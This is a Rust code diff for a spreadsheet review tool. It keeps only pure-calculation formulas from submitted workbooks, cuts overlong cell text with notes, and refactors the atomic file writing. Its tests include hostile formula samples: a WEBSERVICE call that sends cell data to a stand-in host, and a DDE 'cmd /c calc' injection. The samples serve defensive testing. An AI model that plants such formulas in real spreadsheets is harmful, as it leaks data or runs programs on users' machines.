@@ -14,17 +14,19 @@
 
 use crate::check::{FileResult, Status};
 use crate::finding::{Finding, Severity};
+use crate::formula_safety::{self, Unsafe};
 use crate::model::{CellRef, NumFmt, Sheet, Value};
 use crate::number::Locale;
 use crate::text::format_number;
 use rayon::prelude::*;
 use rust_xlsxwriter::utility::quote_sheet_name;
 use rust_xlsxwriter::{
-    Chart, ChartFormat, ChartSolidFill, ChartType, Color, DocProperties, ExcelDateTime, Format,
-    FormatAlign, FormatBorder, FormatUnderline, Formula, Note, Url, Workbook, Worksheet, XlsxError,
+    CalculationMode, Chart, ChartFormat, ChartSolidFill, ChartType, Color, DocProperties,
+    ExcelDateTime, Format, FormatAlign, FormatBorder, FormatUnderline, Formula, Note, Url,
+    Workbook, Worksheet, XlsxError,
 };
+use std::borrow::Cow;
 use std::collections::{BTreeMap, BTreeSet};
-use std::io::Write as _;
 use std::path::{Path, PathBuf};
 
 /// The language of the review workbook's headings (findings' messages are the rule pack's).
@@ -296,9 +298,8 @@ fn mark_border(s: Severity) -> u32 {
 
 /// Excel's limits: hyperlinks per worksheet, rows per worksheet, characters per cell.
 const MAX_LINKS: usize = 65_530;
-const MAX_ROWS: usize = 1_048_576;
-const MAX_CELL_CHARS: usize = 32_767;
-const MAX_SHEET_NAME: usize = 31;
+const MAX_ROWS: usize = crate::xlsx_limits::MAX_ROWS as usize;
+const MAX_CELL_CHARS: usize = crate::xlsx_limits::MAX_CELL_CHARS;
 
 // ---------------------------------------------------------------------------------------------
 // The plan: which sheets are copied, under which names
@@ -383,54 +384,7 @@ fn file_stem(path: &str) -> String {
     }
 }
 
-fn utf16_len(s: &str) -> usize {
-    s.chars().map(char::len_utf16).sum()
-}
-
-/// Cuts `s` to at most `max` UTF-16 units (Excel's measure), on a character boundary.
-fn cut_utf16(s: &str, max: usize) -> &str {
-    let mut n = 0;
-    for (i, c) in s.char_indices() {
-        n += c.len_utf16();
-        if n > max {
-            return &s[..i];
-        }
-    }
-    s
-}
-
-/// A worksheet name Excel accepts (≤ 31 characters, none of `[]:*?/\`, no apostrophe at either
-/// end), unique case-insensitively among `taken`, which it joins.
-fn unique_sheet_name(wanted: &str, taken: &mut BTreeSet<String>) -> String {
-    let cleaned: String = wanted
-        .chars()
-        .map(|c| match c {
-            '[' | ']' | ':' | '*' | '?' | '/' | '\\' => '_',
-            c if c.is_control() => ' ',
-            c => c,
-        })
-        .collect();
-    let cleaned = crate::text::collapse_spaces(&cleaned);
-    let tidy = |s: &str| s.trim().trim_matches('\'').trim().to_string();
-    let mut base = tidy(cut_utf16(&tidy(&cleaned), MAX_SHEET_NAME));
-    if base.is_empty() {
-        base = "Sheet".to_string();
-    }
-    let mut n = 1usize;
-    loop {
-        let candidate = if n == 1 {
-            base.clone()
-        } else {
-            let suffix = format!(" ({n})");
-            let room = MAX_SHEET_NAME.saturating_sub(utf16_len(&suffix));
-            format!("{}{suffix}", tidy(cut_utf16(&base, room)))
-        };
-        if taken.insert(candidate.to_lowercase()) {
-            return candidate;
-        }
-        n += 1;
-    }
-}
+use crate::xlsx_limits::unique_sheet_name;
 
 // ---------------------------------------------------------------------------------------------
 // Formats
@@ -540,8 +494,85 @@ fn link_format(base: Format) -> Format {
         .set_underline(FormatUnderline::Single)
 }
 
-fn cell_text(s: &str) -> &str {
-    cut_utf16(s, MAX_CELL_CHARS)
+/// `s` as a cell holds it: cut, with a visible marker, beyond Excel's limit.
+fn cell_text(s: &str) -> Cow<'_, str> {
+    crate::xlsx_limits::cell_text(s).0
+}
+
+/// Writes a text cell; a text longer than a cell holds is cut with a marker and the cell gets a
+/// note saying so.
+fn put_text(
+    ws: &mut Worksheet,
+    row: u32,
+    col: u16,
+    s: &str,
+    format: &Format,
+    lang: Lang,
+) -> Result<(), XlsxError> {
+    let (t, cut) = crate::xlsx_limits::cell_text(s);
+    ws.write_string_with_format(row, col, t, format)?;
+    if let Some(n) = cut {
+        ws.insert_note(row, col, &note_for(cut_note(lang, n)))?;
+    }
+    Ok(())
+}
+
+/// The note on a text cut to fit a cell.
+fn cut_note(lang: Lang, chars: usize) -> String {
+    let n = format_number(chars as f64, Some(0), lang.locale());
+    let max = format_number(MAX_CELL_CHARS as f64, Some(0), lang.locale());
+    match lang {
+        Lang::En => format!(
+            "This text has {n} characters, more than a cell holds ({max}): it is cut here. The whole text is in the submitted workbook and in crossfoot's JSON report."
+        ),
+        Lang::Vi => format!(
+            "Nội dung này có {n} ký tự, nhiều hơn một ô chứa được ({max}) nên đã bị cắt. Toàn văn có trong tệp đơn vị gửi và trong báo cáo JSON của crossfoot."
+        ),
+    }
+}
+
+/// The note on a cell whose formula was not kept: why, and the formula as text.
+fn formula_note(lang: Lang, formula: &str, why: &Unsafe) -> String {
+    let formula = formula.trim();
+    let formula = formula.strip_prefix('=').unwrap_or(formula);
+    let text = match lang {
+        Lang::En => format!(
+            "Formula not kept: {why}. The cell holds the value the submitted workbook stored. The formula, as text:\n={formula}"
+        ),
+        Lang::Vi => {
+            let why = match why {
+                Unsafe::Function(f) => format!(
+                    "công thức gọi hàm {f}, không thuộc danh sách các hàm tính toán thuần túy mà crossfoot giữ lại"
+                ),
+                Unsafe::ExternalReference => {
+                    "công thức tham chiếu tới sổ tính, tệp hoặc địa chỉ khác".to_string()
+                }
+                Unsafe::Dde => "công thức là liên kết DDE, có thể khởi chạy chương trình khác".to_string(),
+                Unsafe::DefinedName(n) => {
+                    format!("công thức dùng tên {n}, crossfoot không kiểm tra được ý nghĩa của tên này")
+                }
+                Unsafe::TooLong(n) => format!("công thức dài {n} ký tự, vượt giới hạn của bảng tính"),
+                Unsafe::Unreadable(w) => format!("crossfoot không đọc được công thức ({w})"),
+            };
+            format!(
+                "Công thức không được giữ lại: {why}. Ô này chứa giá trị đã lưu trong tệp đơn vị gửi. Công thức dạng văn bản:\n={formula}"
+            )
+        }
+    };
+    crate::xlsx_limits::note_text(&text).into_owned()
+}
+
+/// The note on a sheet some of whose cells lie beyond Excel's grid.
+fn beyond_grid_note(lang: Lang, cells: usize) -> String {
+    let n = format_number(cells as f64, Some(0), lang.locale());
+    match lang {
+        Lang::En => format!(
+            "{n} cell(s) of this sheet lie beyond the rows and columns a worksheet holds (1,048,576 × 16,384) and are not copied here."
+        ),
+        Lang::Vi => format!(
+            "{n} ô của trang tính này nằm ngoài số dòng và cột tối đa của một trang tính (1.048.576 × 16.384) nên không được sao chép."
+        ),
+    }
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -592,10 +623,10 @@ pub fn review_workbook(
             words,
         )?;
         let mut findings = Worksheet::new();
-        write_findings(&mut findings, results, &plan, words)?;
+        write_findings(&mut findings, results, &plan, words, opts.lang)?;
         Ok((summary, findings))
     };
-    let copies = || -> Vec<Result<Worksheet, ReviewError>> {
+    let copies = || -> Vec<Result<(Worksheet, CopyWritten), ReviewError>> {
         plan.copies
             .par_iter()
             .map(|(ri, si, name)| {
@@ -603,8 +634,8 @@ pub fn review_workbook(
                 let mut ws = Worksheet::new();
                 ws.set_name(name)?;
                 let mut formats = Formats::default();
-                write_copy(&mut ws, r, *ri, &r.kept[*si], &plan, opts, &mut formats)?;
-                Ok(ws)
+                let done = write_copy(&mut ws, r, *ri, &r.kept[*si], &plan, opts, &mut formats)?;
+                Ok((ws, done))
             })
             .collect()
     };
@@ -612,8 +643,16 @@ pub fn review_workbook(
     let (summary, findings) = first?;
     wb.push_worksheet(summary);
     wb.push_worksheet(findings);
-    for ws in copies {
-        wb.push_worksheet(ws?);
+    let mut all_pure = true;
+    for c in copies {
+        let (ws, done) = c?;
+        all_pure &= done.all_formulas_pure;
+        wb.push_worksheet(ws);
+    }
+    // rust_xlsxwriter asks for a full recalculation on load (`fullCalcOnLoad`) in its
+    // automatic mode; that is only allowed when every formula kept is a pure calculation.
+    if !all_pure {
+        wb.set_calculation_mode(CalculationMode::Manual);
     }
     Ok(wb.save_to_buffer()?)
 }
@@ -691,10 +730,11 @@ fn write_summary(
         let f = fill(colour);
         let name = r.unit.name.as_deref().unwrap_or("");
         let code = r.unit.code.as_deref().unwrap_or("");
-        ws.write_string_with_format(row, 0, cell_text(&r.path), &f)?;
-        ws.write_string_with_format(row, 1, cell_text(name), &f)?;
-        ws.write_string_with_format(row, 2, cell_text(code), &f)?;
-        ws.write_string_with_format(row, 3, cell_text(&status), &f.clone().set_bold())?;
+        let lang = opts.lang;
+        put_text(ws, row, 0, &r.path, &f, lang)?;
+        put_text(ws, row, 1, name, &f, lang)?;
+        put_text(ws, row, 2, code, &f, lang)?;
+        put_text(ws, row, 3, &status, &f.clone().set_bold(), lang)?;
         ws.write_number_with_format(row, 4, e as f64, &f)?;
         ws.write_number_with_format(row, 5, w as f64, &f)?;
         match (first_row[i], r.findings.first()) {
@@ -704,7 +744,7 @@ fn write_summary(
                 ws.write_url_with_format(row, 6, &url, &link_format(f.clone()))?;
             }
             (_, Some(first)) => {
-                ws.write_string_with_format(row, 6, cell_text(&first.rule), &f)?;
+                put_text(ws, row, 6, &first.rule, &f, lang)?;
             }
             _ => {
                 ws.write_blank(row, 6, &f)?;
@@ -717,7 +757,7 @@ fn write_summary(
             .find(|s| !s.is_empty())
             .map(str::to_string)
             .unwrap_or_else(|| file_stem(&r.path));
-        ws.write_string_with_format(row, 7, cell_text(&label), &f)?;
+        put_text(ws, row, 7, &label, &f, lang)?;
     }
     let last = rows as u32;
     ws.set_freeze_panes(1, 0)?;
@@ -788,6 +828,7 @@ fn write_findings(
     results: &[FileResult],
     plan: &CopyPlan,
     words: &Words,
+    lang: Lang,
 ) -> Result<(), ReviewError> {
     ws.set_name(words.findings_sheet)?;
     ws.set_landscape().set_print_fit_to_pages(1, 0);
@@ -838,9 +879,9 @@ fn write_findings(
                 break 'outer;
             }
             row += 1;
-            ws.write_string_with_format(row, 0, cell_text(&f.file), &top)?;
-            ws.write_string_with_format(row, 1, cell_text(branch), &top)?;
-            ws.write_string_with_format(row, 2, cell_text(f.sheet.as_deref().unwrap_or("")), &top)?;
+            put_text(ws, row, 0, &f.file, &top, lang)?;
+            put_text(ws, row, 1, branch, &top, lang)?;
+            put_text(ws, row, 2, f.sheet.as_deref().unwrap_or(""), &top, lang)?;
             if let Some(c) = f.cells.first() {
                 let shown = if f.sheet.as_deref() == Some(c.sheet.as_str()) {
                     c.cell.clone()
@@ -859,13 +900,13 @@ fn write_findings(
                         ws.write_url_with_format(row, 3, &url, &link)?;
                     }
                     _ => {
-                        ws.write_string_with_format(row, 3, cell_text(&shown), &top)?;
+                        put_text(ws, row, 3, &shown, &top, lang)?;
                     }
                 }
             }
-            ws.write_string_with_format(row, 4, cell_text(&f.rule), &top)?;
+            put_text(ws, row, 4, &f.rule, &top, lang)?;
             ws.write_string_with_format(row, 5, words.severity(f.severity), &sev_fmt(f.severity))?;
-            ws.write_string_with_format(row, 6, cell_text(&f.message), &wrap)?;
+            put_text(ws, row, 6, &f.message, &wrap, lang)?;
             // Wrapped text: spreadsheet programs do not all grow the row on opening.
             let lines = f.message.chars().count().div_ceil(75);
             if lines > 1 {
@@ -933,6 +974,10 @@ fn marks_for<'a>(r: &'a FileResult, sheet: &str) -> BTreeMap<CellRef, CellMarks<
     out
 }
 
+/// Longest message of one finding in a cell's note, in characters (the Findings sheet holds
+/// the message as far as a cell holds it).
+const NOTE_MESSAGE_CHARS: usize = 2_000;
+
 fn note_text(cm: &CellMarks<'_>, lang: Lang) -> String {
     let words = Words::of(lang);
     let locale = lang.locale();
@@ -941,7 +986,10 @@ fn note_text(cm: &CellMarks<'_>, lang: Lang) -> String {
     list.sort_by_key(|f| std::cmp::Reverse(f.0.severity));
     let mut parts = Vec::new();
     for (f, primary) in list {
-        let mut s = format!("[{}] {}\n{}", words.severity(f.severity), f.rule, f.message);
+        // A message quoting a huge cell is cut: a note stays readable, and the notes after it
+        // (other findings, a formula not kept, a text cut) still fit.
+        let message = crate::xlsx_limits::fit_text(&f.message, NOTE_MESSAGE_CHARS).0;
+        let mut s = format!("[{}] {}\n{message}", words.severity(f.severity), f.rule);
         let n = |v: f64| format_number(v, f.decimals, locale);
         let mut nums = Vec::new();
         if let Some(e) = f.expected {
@@ -966,7 +1014,7 @@ fn note_text(cm: &CellMarks<'_>, lang: Lang) -> String {
         parts.push(s);
     }
     let text = parts.join("\n\n");
-    cut_utf16(&text, MAX_CELL_CHARS - 100).to_string()
+    crate::xlsx_limits::note_text(&text).into_owned()
 }
 
 fn note_for(text: String) -> Note {
@@ -1042,8 +1090,14 @@ fn write_copy(
     plan: &CopyPlan,
     opts: &ReviewOptions,
     formats: &mut Formats,
-) -> Result<(), ReviewError> {
+) -> Result<CopyWritten, ReviewError> {
     ws.set_default_note_author("crossfoot");
+    let mut done = CopyWritten {
+        all_formulas_pure: true,
+    };
+    // Notes that are not about findings: formulas not kept, texts cut, cells beyond the grid.
+    let mut extra_notes: BTreeMap<CellRef, String> = BTreeMap::new();
+    let mut beyond_grid = 0usize;
     ws.set_print_fit_to_pages(1, 0);
     let marks = marks_for(r, &sheet.name);
     let header = header_rows(sheet);
@@ -1106,6 +1160,7 @@ fn write_copy(
     };
     for (at, cell) in &sheet.cells {
         if at.row >= MAX_ROWS as u32 || at.col > 16_383 {
+            beyond_grid += 1;
             continue;
         }
         let (row, col) = (at.row, at.col as u16);
@@ -1133,11 +1188,35 @@ fn write_copy(
             );
         }
         let format = formats.get(&style);
-        let formula = cell.formula.as_deref().and_then(|f| {
-            rewrite_formula(f, &|name| {
-                renames.get(&name.to_lowercase()).map(|s| s.to_string())
-            })
-        });
+        // A formula from the submission is kept only if it is a pure calculation inside the
+        // workbook; any other is written as its cached value, with a note showing it as text.
+        let formula = match cell.formula.as_deref() {
+            None => None,
+            Some(f) => match formula_safety::assess(f) {
+                Ok(()) => rewrite_formula(f, &|name| {
+                    renames.get(&name.to_lowercase()).map(|s| s.to_string())
+                }),
+                Err(why) => {
+                    extra_notes.insert(*at, formula_note(opts.lang, f, &why));
+                    None
+                }
+            },
+        };
+        if let Some(f) = &formula {
+            done.all_formulas_pure &= formula_safety::is_safe(f);
+        }
+        if let Value::Text(t) = &cell.value {
+            if let (_, Some(n)) = crate::xlsx_limits::cell_text(t) {
+                let note = cut_note(opts.lang, n);
+                extra_notes
+                    .entry(*at)
+                    .and_modify(|e| {
+                        e.push_str("\n\n");
+                        e.push_str(&note);
+                    })
+                    .or_insert(note);
+            }
+        }
         match (formula, &cell.value) {
             (Some(f), v) => {
                 ws.write_formula_with_format(
@@ -1179,6 +1258,16 @@ fn write_copy(
             *e = (*e).max(w);
         }
     }
+    if beyond_grid > 0 {
+        let note = beyond_grid_note(opts.lang, beyond_grid);
+        extra_notes
+            .entry(CellRef::new(0, 0))
+            .and_modify(|e| {
+                e.push_str("\n\n");
+                e.push_str(&note);
+            })
+            .or_insert(note);
+    }
     for (at, cm) in &marks {
         if at.row >= MAX_ROWS as u32 || at.col > 16_383 {
             continue;
@@ -1192,7 +1281,17 @@ fn write_copy(
             };
             ws.write_blank(at.row, at.col as u16, formats.get(&style))?;
         }
-        ws.insert_note(at.row, at.col as u16, &note_for(note_text(cm, opts.lang)))?;
+        let mut text = note_text(cm, opts.lang);
+        if let Some(extra) = extra_notes.remove(at) {
+            text.push_str("\n\n");
+            text.push_str(&extra);
+        }
+        let text = crate::xlsx_limits::note_text(&text).into_owned();
+        ws.insert_note(at.row, at.col as u16, &note_for(text))?;
+    }
+    for (at, text) in extra_notes {
+        let text = crate::xlsx_limits::note_text(&text).into_owned();
+        ws.insert_note(at.row, at.col as u16, &note_for(text))?;
     }
     for (col, w) in widths {
         if col <= 16_383 {
@@ -1203,7 +1302,13 @@ fn write_copy(
         let (strong, _) = mark_fill(worst);
         ws.set_tab_color(Color::RGB(strong));
     }
-    Ok(())
+    Ok(done)
+}
+
+/// What writing one marked copy found.
+struct CopyWritten {
+    /// Every formula written is on the list of pure calculation functions.
+    all_formulas_pure: bool,
 }
 
 /// The formula with its references to other sheets renamed to their copies; None when the
@@ -1355,14 +1460,17 @@ fn is_cell_ref(w: &str) -> bool {
 // ---------------------------------------------------------------------------------------------
 // Writing the file
 
-/// Writes the review workbook to `out` atomically (a temporary file in the same folder, then a
-/// rename), refusing an `out` that is one of `inputs` (canonical paths compared) or a folder.
+/// Writes the review workbook to `out` atomically ([`crate::output::write_atomic`]: a temporary
+/// file in the same folder, removed on every error and on SIGINT/SIGTERM, then a rename; the
+/// permissions of a replaced file kept), refusing an `out` that is one of `inputs` (canonical
+/// paths compared) or a folder. The [`crate::output::Written`] says what else was done (stale
+/// temporary files of killed runs removed): the caller prints its notices.
 pub fn write_review(
     out: &Path,
     inputs: &[PathBuf],
     results: &[FileResult],
     opts: &ReviewOptions,
-) -> Result<(), ReviewError> {
+) -> Result<crate::output::Written, ReviewError> {
     if out.is_dir() || out.file_name().is_none() {
         return Err(ReviewError::OutputIsFolder {
             path: out.to_path_buf(),
@@ -1388,39 +1496,7 @@ pub fn write_review(
             parent.display()
         )));
     }
-    let name = out
-        .file_name()
-        .map(|n| n.to_string_lossy().into_owned())
-        .unwrap_or_default();
-    let mut attempt = 0u32;
-    let (tmp, mut file) = loop {
-        let tmp = parent.join(format!(
-            ".{name}.{}.{attempt}.crossfoot-tmp",
-            std::process::id()
-        ));
-        match std::fs::OpenOptions::new()
-            .write(true)
-            .create_new(true)
-            .open(&tmp)
-        {
-            Ok(f) => break (tmp, f),
-            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists && attempt < 100 => {
-                attempt += 1;
-            }
-            Err(e) => return Err(write_err(e.to_string())),
-        }
-    };
-    let written = file
-        .write_all(&bytes)
-        .and_then(|()| file.sync_all())
-        .map_err(|e| e.to_string());
-    drop(file);
-    let done = written.and_then(|()| std::fs::rename(&tmp, out).map_err(|e| e.to_string()));
-    if let Err(reason) = done {
-        let _ = std::fs::remove_file(&tmp);
-        return Err(write_err(reason));
-    }
-    Ok(())
+    crate::output::write_atomic(out, &bytes).map_err(|e| write_err(e.to_string()))
 }
 
 /// Whether `out` names the same file as `input`: equal canonical paths (through symbolic
@@ -1508,11 +1584,125 @@ mod tests {
         let long = "Chi bộ Trường Trung học phổ thông Tam Đường M01";
         let a = unique_sheet_name(long, &mut taken);
         let b = unique_sheet_name(long, &mut taken);
+        let utf16_len = crate::xlsx_limits::utf16_len;
         assert!(utf16_len(&a) <= 31 && utf16_len(&b) <= 31, "{a} / {b}");
         assert_ne!(a.to_lowercase(), b.to_lowercase());
         assert!(b.ends_with(" (2)"));
         assert_eq!(unique_sheet_name("'quoted'", &mut taken), "quoted");
         assert_eq!(unique_sheet_name("''", &mut taken), "Sheet");
+    }
+
+    /// One checked file whose kept sheet holds `cells`.
+    fn one_sheet(cells: &[(&str, Value, Option<&str>)]) -> Vec<FileResult> {
+        let mut sheet = Sheet::new("M01");
+        for (at, v, f) in cells {
+            let at = CellRef::parse_a1(at).expect("a1");
+            sheet.cells.insert(
+                at,
+                crate::model::Cell {
+                    value: v.clone(),
+                    formula: f.map(str::to_string),
+                    fmt: NumFmt::default(),
+                },
+            );
+        }
+        vec![FileResult {
+            path: "a.xlsx".into(),
+            status: Status::Checked,
+            forms: vec![crate::check::FormFound {
+                sheet: "M01".into(),
+                form: "M01".into(),
+            }],
+            findings: vec![],
+            unit: crate::check::Unit {
+                name: Some("Chi bộ A".into()),
+                code: Some("TD-01".into()),
+            },
+            kept: vec![sheet],
+        }]
+    }
+
+    /// (every `<f>` of the worksheets, the notes' text, workbook.xml) of a review workbook.
+    fn read_back(bytes: &[u8]) -> (Vec<String>, String, String) {
+        use std::io::Read as _;
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("zip");
+        let (mut fs, mut notes, mut workbook) = (Vec::new(), String::new(), String::new());
+        for i in 0..zip.len() {
+            let mut f = zip.by_index(i).expect("entry");
+            let name = f.name().unwrap_or_default().to_string();
+            let mut text = String::new();
+            let _ = f.read_to_string(&mut text);
+            if name.starts_with("xl/worksheets/sheet") {
+                let mut rest = text.as_str();
+                while let Some(i) = rest.find("<f>") {
+                    let end = rest[i..].find("</f>").map_or(rest.len(), |e| i + e);
+                    fs.push(
+                        rest[i + 3..end]
+                            .replace("&quot;", "\"")
+                            .replace("&amp;", "&"),
+                    );
+                    rest = &rest[end..];
+                }
+            } else if name.starts_with("xl/comments") {
+                notes.push_str(&text.replace("&quot;", "\"").replace("&amp;", "&"));
+            } else if name == "xl/workbook.xml" {
+                workbook = text;
+            }
+        }
+        (fs, notes, workbook)
+    }
+
+    #[test]
+    fn dangerous_formulas_become_values_with_a_note() {
+        let t = |s: &str| Value::Text(s.to_string());
+        let results = one_sheet(&[
+            ("A1", Value::Number(3.0), Some("SUM(B1:B2)")),
+            ("A2", t("leak"), Some("_xlfn.WEBSERVICE(\"http://x/?\"&B1)")),
+            ("A3", t("leak2"), Some("HYPERLINK(\"http://x\",\"go\")")),
+            ("A4", Value::Number(1.0), Some("[1]Sheet1!A1")),
+            ("A5", Value::Number(1.0), Some("cmd|' /c calc'!A0")),
+            ("B1", Value::Number(1.0), None),
+            ("B2", Value::Number(2.0), None),
+        ]);
+        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
+        let (fs, notes, workbook) = read_back(&bytes);
+        assert_eq!(fs, vec!["SUM(B1:B2)".to_string()]);
+        for f in [
+            "=_xlfn.WEBSERVICE(\"http://x/?\"&B1)",
+            "=HYPERLINK(\"http://x\",\"go\")",
+            "=[1]Sheet1!A1",
+            "=cmd|' /c calc'!A0",
+        ] {
+            assert!(notes.contains(f), "{f}");
+        }
+        assert!(notes.contains("Formula not kept: it calls _xlfn.WEBSERVICE"));
+        assert!(notes.contains("Formula not kept: it is a DDE link"));
+        // Every kept formula is pure: the recalculation on load is allowed.
+        assert!(workbook.contains("fullCalcOnLoad"));
+    }
+
+    #[test]
+    fn long_cell_text_is_cut_with_a_note() {
+        let results = one_sheet(&[("A1", Value::Text("é".repeat(40_000)), None)]);
+        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
+        let (_, notes, _) = read_back(&bytes);
+        assert!(notes.contains("This text has 40,000 characters"), "{notes}");
+    }
+
+    #[test]
+    fn cells_beyond_the_grid_are_left_out_and_said_so() {
+        let mut results = one_sheet(&[("B2", Value::Number(1.0), None)]);
+        for at in [CellRef::new(2_000_000, 0), CellRef::new(0, 20_000)] {
+            results[0].kept[0]
+                .cells
+                .insert(at, crate::model::Cell::value(Value::Number(2.0)));
+        }
+        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
+        let (_, notes, _) = read_back(&bytes);
+        assert!(
+            notes.contains("2 cell(s) of this sheet lie beyond"),
+            "{notes}"
+        );
     }
 
     #[test]
